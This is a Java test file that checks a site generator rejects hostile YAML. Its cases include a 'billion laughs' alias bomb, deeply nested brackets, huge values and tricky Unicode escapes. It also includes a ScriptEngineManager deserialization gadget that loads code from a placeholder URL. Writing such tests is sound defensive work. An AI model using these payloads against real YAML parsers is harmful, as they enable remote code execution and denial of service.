package nienbieu.read;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import nienbieu.publish.QuickDisk;
import nienbieu.source.Problem;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/** The worst that a stranger can put into a YAML file fails the build with a sentence. */
@Timeout(value = 60, unit = TimeUnit.SECONDS)
class HostileYamlIT {
  private static final int MEGABYTE = 1_000_000;

  @TempDir(factory = QuickDisk.class)
  Path folder;

  @TestFactory
  Stream<DynamicTest> everyAttackIsAProblemWithItsPlace() {
    return attacks().entrySet().stream()
        .map(attack -> DynamicTest.dynamicTest(attack.getKey(), () -> check(attack)));
  }

  private void check(Map.Entry<String, String> attack) {
    String path = "events/" + attack.getKey() + ".yaml";
    TinySite site = new TinySite(folder.resolve(attack.getKey())).with(path, attack.getValue());
    assertTrue(site.read().isEmpty(), "published");
    assertFalse(site.problems().isEmpty());
    for (Problem problem : site.problems()) {
      assertEquals("content/" + path, problem.place().file().path());
    }
    assertTrue(
        attack.getKey().equals("a megabyte")
            || site.problems().get(0).place().line() > 0
            || site.problems().size() > 1,
        site.seen());
    assertTrue(site.seen().length() < 2 * MEGABYTE, "the answer is longer than the attack");
  }

  /** Security notes, 2.1. */
  private static Map<String, String> attacks() {
    Map<String, String> attacks = new LinkedHashMap<>();
    attacks.put("brackets", "[".repeat(100_000));
    attacks.put("braces", "{".repeat(100_000));
    attacks.put("braces with names", "{a: ".repeat(100_000));
    attacks.put("dashes", "- ".repeat(5_000) + "a");
    attacks.put("questions", "? ".repeat(5_000) + "a");
    attacks.put("closing brackets", "]".repeat(100_000));
    attacks.put("billion laughs", billionLaughs());
    attacks.put("recursive alias", "- &a [*a]\n");
    attacks.put("many aliases", "- &a b\n- [" + "*a,".repeat(20_000) + "]\n");
    attacks.put("many anchors", anchors());
    attacks.put("merge keys", "- &a {b: c}\n- {<<: *a, <<: [*a, *a]}\n");
    attacks.put("code", "- !!javax.script.ScriptEngineManager [!!java.net.URL ['http://a/']]\n");
    attacks.put("local tag", "- !foo {id: a}\n");
    attacks.put("many tags", "- [" + "!a b,".repeat(20_000) + "]\n");
    attacks.put("tag handle", "%TAG !e! tag:example.org,2000:\n---\n- !e!x a\n");
    attacks.put("version", "%YAML 1.2\n---\n- id: a\n");
    attacks.put("unknown version", "%YAML 9.9\n---\n- id: a\n");
    attacks.put("unknown directive", "%FOO bar\n---\n- id: a\n");
    attacks.put("binary", "- id: !!binary aGVsbG8=\n");
    attacks.put("lone surrogate", Events.titled("\"\\ud800\""));
    attacks.put("nul", Events.titled("\"a\\0b\""));
    attacks.put("escaped direction", Events.titled("\"a\\u202Eb\""));
    attacks.put("escaped noncharacter", Events.titled("\"a\\uFFFFb\""));
    attacks.put("escaped beyond Unicode", Events.titled("\"\\U00110000\""));
    attacks.put("escaped next line", Events.titled("\"a\\Nb\""));
    attacks.put("huge text", Events.titled("a".repeat(200_000)));
    attacks.put("huge name", "- " + "a".repeat(200_000) + ": b\n");
    attacks.put("huge id", Events.withId("a".repeat(200_000)));
    attacks.put("a megabyte", "a".repeat(MEGABYTE + 1));
    attacks.put("duplicate names", "- {" + "a: b,".repeat(20_000) + "}\n");
    attacks.put("unknown fields", unknownFields());
    attacks.put("empty names", "- {" + ": ,".repeat(20_000) + "}\n");
    attacks.put("names without colons", "- {a: b" + ",c".repeat(20_000) + "}\n");
    attacks.put("wrong references", wrongReferences());
    attacks.put(
        "letters in parts", "- \"" + "e\\u0301".repeat(20_000) + "\"\n- id: \"e\\u0301\"\n");
    attacks.put("many letters in parts", ("- id: \"e\\u0301\"\n").repeat(1_000));
    attacks.put("raw HTML", Events.one() + "  body:\n    vi: |\n" + "      <b>\n".repeat(5_000));
    attacks.put("many documents", "---\n- a\n".repeat(10_000));
    attacks.put("open quote", "- \"" + "a\n".repeat(50_000));
    attacks.put("tabs", "\t".repeat(200_000) + "a");
    attacks.put("blanks", "- id: a\n" + " ".repeat(200_000) + "b: c\n");
    attacks.put("carriage returns", "- id: a\r".repeat(1_000));
    attacks.put("large date", Events.one().replace("2021-01-02", "2".repeat(200_000)));
    attacks.put("large number", Events.one() + "  order: " + "9".repeat(200_000) + "\n");
    attacks.put("brackets for dates", Events.one().replace("\"2021-01-02\"", "[".repeat(15)));
    return attacks;
  }

  private static String billionLaughs() {
    StringBuilder text = new StringBuilder("- &a0 [lol]\n");
    for (int level = 1; level < 10; level++) {
      text.append("- &a").append(level).append(" [");
      text.append(("*a" + (level - 1) + ",").repeat(10)).append("]\n");
    }
    return text.toString();
  }

  private static String anchors() {
    StringBuilder text = new StringBuilder();
    for (int at = 0; at < 1_000; at++) {
      text.append("- &a").append(at).append(" b\n");
    }
    return text.toString();
  }

  private static String unknownFields() {
    StringBuilder text = new StringBuilder(Events.one());
    for (int at = 0; at < 5_000; at++) {
      text.append("  f").append(at).append(": a\n");
    }
    return text.toString();
  }

  private static String wrongReferences() {
    StringBuilder text = new StringBuilder();
    for (int event = 0; event < 40; event++) {
      text.append(Events.withId("event-" + event)).append("  related: [");
      for (int at = 0; at < 150; at++) {
        text.append("wrong-").append(event).append('-').append(at).append(", ");
      }
      text.append("]\n");
    }
    return text.toString();
  }
}
